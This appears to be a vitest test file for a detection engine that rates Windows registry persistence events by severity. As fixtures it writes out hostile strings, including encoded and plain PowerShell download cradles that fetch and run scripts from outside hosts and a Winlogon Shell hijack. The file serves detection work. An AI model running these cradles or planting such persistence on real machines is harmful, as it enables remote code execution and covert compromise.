import { describe, expect, it } from 'vitest';
import { analyzeEvents } from '../../../shared/detect/engine';
import { DECISIVE_WEIGHT, severityOf } from '../../../shared/detect/scoring';
import { analyzeGenerated } from './analyze-generated';
import { psEncode, regSet, RUN_HKLM, RUN_HKU } from './helpers';

const REG = 'C:\\Windows\\system32\\reg.exe';
const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const severity = (...a: Parameters<typeof regSet>) => analyzeEvents([regSet(...a)])[0]?.severity;

describe('severity calibration', () => {
  it('rates an encoded PowerShell Run value with a download cradle critical', () => {
    const v = `powershell.exe -NoP -W Hidden -EncodedCommand ${psEncode("IEX (New-Object Net.WebClient).DownloadString('https://185.199.110.42/a.ps1')")}`;
    expect(severity(`${RUN_HKU}\\WinNetSvc`, v, { image: PS })).toBe('critical');
  });

  it('rates a plain download cradle (no encoding) critical', () => {
    expect(severity(`${RUN_HKU}\\u`, "powershell -c \"IEX (iwr 'https://evil.example/a.ps1')\"", { image: PS })).toBe('critical');
  });

  it('rates a Winlogon Shell replacement into ProgramData critical', () => {
    expect(severity('HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell', 'C:\\ProgramData\\WinShell\\shellsvc.exe', { image: REG })).toBe('critical');
  });

  it('rates a Run value hidden from regedit (empty name) pointing into a user folder critical', () => {
    expect(severity(`${RUN_HKLM}\\`, 'c:\\windows\\tasks\\taskhost.exe', { image: 'C:\\Users\\Public\\tools\\a.exe' })).toBe('critical');
  });

  it('rates a plain %APPDATA% Run value written by reg.exe high', () => {
    expect(severity(`${RUN_HKU}\\Updater`, 'C:\\Users\\bob\\AppData\\Roaming\\upd\\upd.exe', { image: REG })).toBe('high');
  });

  it('rates a Run value with a single weak indicator medium', () => {
    expect(severity(`${RUN_HKLM}\\Tool`, 'C:\\ProgramData\\Tool\\tool.exe', { image: 'C:\\Program Files\\Tool\\setup.exe' })).toBe('medium');
  });

  it('keeps a pile of moderate signs at high: critical needs one decisive reason', () => {
    expect(severityOf(150, undefined, DECISIVE_WEIGHT - 1)).toBe('high');
    expect(severityOf(100, undefined, DECISIVE_WEIGHT)).toBe('critical');
    expect(severityOf(99, undefined, 300)).toBe('high');
    expect(severityOf(60)).toBe('high');
    expect(severityOf(59)).toBe('medium');
    expect(severityOf(40)).toBe('medium');
    expect(severityOf(39)).toBe('low');
    expect(severityOf(19)).toBe('informational');
    expect(severityOf(300, 'low', 300)).toBe('low');
  });

  it('spreads the malicious findings of the generated mixed scenario over high and critical (seed 1547)', async () => {
    const { findings, key } = await analyzeGenerated({ scenario: 'mixed', seed: 1547, format: 'evtx' });
    const persistence = key.records.filter((r) => r.role === 'persistence');
    const cites = (f: (typeof findings)[number]) => [f.evidence, ...(f.alsoSeenIn ?? [])].some((s) => persistence.some((r) => s.ref.file === r.ref.file && s.ref.recordId === r.ref.recordId));
    const bySeverity = new Map<string, Set<string>>();
    for (const f of findings.filter(cites)) {
      const story = persistence.find((r) => r.ref.file === f.evidence.ref.file && r.ref.recordId === f.evidence.ref.recordId)?.story ?? '?';
      bySeverity.set(f.severity, (bySeverity.get(f.severity) ?? new Set()).add(story));
    }
    expect([...bySeverity.keys()].sort()).toEqual(['critical', 'high']);
    for (const s of ['encoded-powershell-run', 'winlogon-shell', 'winlogon-userinit']) expect(bySeverity.get('critical')?.has(s), s).toBe(true);
    for (const s of ['appdata-reg-add', 'wow6432-run', 'policies-explorer-run']) expect(bySeverity.get('high')?.has(s), s).toBe(true);
  });
});
